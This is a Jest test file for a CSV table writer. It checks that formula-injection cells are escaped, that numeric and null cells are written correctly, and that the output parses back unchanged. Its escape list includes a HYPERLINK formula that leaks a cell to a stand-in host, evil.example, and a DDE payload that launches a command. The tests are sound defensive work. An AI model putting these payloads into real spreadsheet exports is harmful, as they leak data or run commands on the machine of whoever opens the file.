import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { CsvTable, formulaSafe } from './csv-table.js';

interface Row {
  name: string | null;
  cost: string | number;
}

const table = new CsvTable<Row>([
  { header: 'name', value: row => row.name },
  { header: 'cost', value: row => row.cost, numeric: true },
]);

describe('CSV tables', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('escape %j', evil => {
    const [row] = parse(table.rows([{ name: evil, cost: 1 }]));
    expect(row).toEqual([`'${evil}`, '1']);
  });

  it('write negative numbers as numbers', () => {
    expect(table.rows([{ name: 'a', cost: '-0.000000000001' }])).toBe('a,-0.000000000001\r\n');
    expect(table.rows([{ name: 'a', cost: -5 }])).toBe('a,-5\r\n');
  });

  it('escape a text in a numeric column', () => {
    expect(table.rows([{ name: 'a', cost: '-1+cmd()' }])).toBe("a,'-1+cmd()\r\n");
  });

  it('write the header line', () => expect(table.header()).toBe('name,cost\r\n'));

  it('write nothing for no rows and an empty cell for null', () => {
    expect(table.rows([])).toBe('');
    expect(table.rows([{ name: null, cost: 0 }])).toBe(',0\r\n');
  });

  it('quote cells with separators of other locales', () => {
    expect(table.rows([{ name: 'a;=1', cost: 0 }])).toBe('"a;=1",0\r\n');
  });

  it('are read back unchanged by a CSV parser, for any name', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' })), names => {
        const text = table.header() + table.rows(names.map(name => ({ name, cost: 7 })));
        const rows = parse(text, { from_line: 1, record_delimiter: '\r\n' });
        expect(rows.slice(1)).toEqual(names.map(name => [formulaSafe(name), '7']));
      }),
    );
  });
});
